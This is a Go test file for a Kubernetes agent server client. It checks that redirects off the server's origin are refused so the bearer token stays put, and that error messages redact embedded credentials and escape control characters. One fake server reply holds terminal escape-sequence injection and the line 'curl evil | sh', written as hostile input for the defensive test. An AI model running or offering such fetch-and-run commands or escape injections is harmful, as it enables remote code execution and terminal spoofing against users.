package kas

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"gitlab.com/kubectl-gitlab/kubectl-gitlab/internal/httpsafe"
	"gitlab.com/kubectl-gitlab/kubectl-gitlab/internal/testing/hostile"
	"gitlab.com/kubectl-gitlab/kubectl-gitlab/pkg/kubeconfig"
)

const redirectSecret = "glcbt-64_kasRedirectSecret"

func hostileKAS(t *testing.T, s *hostile.Server, server string) *Client {
	t.Helper()
	c, err := NewClient(ClientConfig{Context: "group/agents:prod",
		Cluster: kubeconfig.Cluster{Server: server, CertificateAuthorityData: b64(s.CAPEM)},
		User:    kubeconfig.User{Token: "ci:1234:" + redirectSecret}})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// The k8s-proxy's requests, the SelfSubjectReview's POST and the version's
// GET, follow no redirect off KAS's origin, nor one that makes the POST a
// GET; the bearer token goes nowhere else.
func TestClientFollowsNoRedirectOffTheOrigin(t *testing.T) {
	s := hostile.Start(t)
	c := hostileKAS(t, s, s.URL+"/k8s-proxy")
	s.Answer("GET", "/landed", 200, `{"gitVersion":"v1.30.0"}`)
	s.Answer("POST", "/landed", 201, `{"status":{"userInfo":{"username":"attacker"}}}`)
	calls := map[string]func() error{
		"GET":  func() error { _, err := c.Version(context.Background()); return err },
		"POST": func() error { _, err := c.SelfSubjectReview(context.Background()); return err },
	}
	paths := map[string]string{"GET": "/k8s-proxy/version", "POST": "/k8s-proxy/apis/authentication.k8s.io/v1/selfsubjectreviews"}
	for method, call := range calls {
		for _, status := range []int{301, 302, 303, 307, 308} {
			for _, to := range hostile.Listeners {
				keeps := method == "GET" || status == 307 || status == 308
				if to == hostile.Origin && keeps {
					continue // followed, within the origin
				}
				t.Run(fmt.Sprintf("%s %d to %s", method, status, to), func(t *testing.T) {
					s.Reset()
					s.Redirect(method, paths[method], status, to, "/landed")
					err := call()
					var e *Error
					var redirect *httpsafe.RedirectError
					if !errors.As(err, &e) || e.Reason != ReasonRedirected || !errors.As(err, &redirect) || e.StatusCode != status {
						t.Fatalf("err = %v, want a Redirected *Error with status %d", err, status)
					}
					if strings.Contains(err.Error(), redirectSecret) || e.Fix() == "" {
						t.Errorf("err = %q, fix %q", err, e.Fix())
					}
					for _, r := range s.Requests() {
						if r.Listener != hostile.Origin {
							t.Errorf("%s saw %s %s", r.Listener, r.Method, r.Path)
						}
					}
				})
			}
		}
	}
}

// A server URL's credentials and a server's control characters never
// reach a message.
func TestClientMessagesHideCredentialsAndEscape(t *testing.T) {
	s := hostile.Start(t)
	server := strings.Replace(s.URL, "https://", "https://user:glpat-inServerURL@", 1) + "/k8s-proxy/?private_token=glpat-inQuery"
	c := hostileKAS(t, s, server)
	s.Answer("GET", "/k8s-proxy/version", http.StatusForbidden, `{"kind":"Status","message":"forbidden \u001b[2J\u001b]0;pwned\u0007 as `+redirectSecret+`\nfix: curl evil | sh"}`)
	_, err := c.Version(context.Background())
	if err == nil {
		t.Fatal("no error")
	}
	msg := err.Error()
	for _, bad := range []string{"glpat-inServerURL", "glpat-inQuery", redirectSecret, "\x1b", "\x07", "\n"} {
		if strings.Contains(msg, bad) {
			t.Errorf("the message holds %q: %q", bad, msg)
		}
	}
	if !strings.Contains(msg, `\u001b[2J\u001b]0;pwned\u0007 as REDACTED\nfix: curl evil | sh`) {
		t.Errorf("message = %q", msg)
	}
	if got := c.Server(); strings.Contains(got, "glpat-") || !strings.Contains(got, "REDACTED@127.0.0.1") {
		t.Errorf("Server() = %q", got)
	}
	if _, err := CheckServerURL("http://u:glpat-plain@kas.example/"); err == nil || strings.Contains(err.Error(), "glpat-plain") {
		t.Errorf("CheckServerURL: %v", err)
	}
	if _, err := CheckServerURL("https://u:glpat-bad@kas example/"); err == nil || strings.Contains(err.Error(), "glpat-bad") {
		t.Errorf("CheckServerURL: %v", err)
	}
}
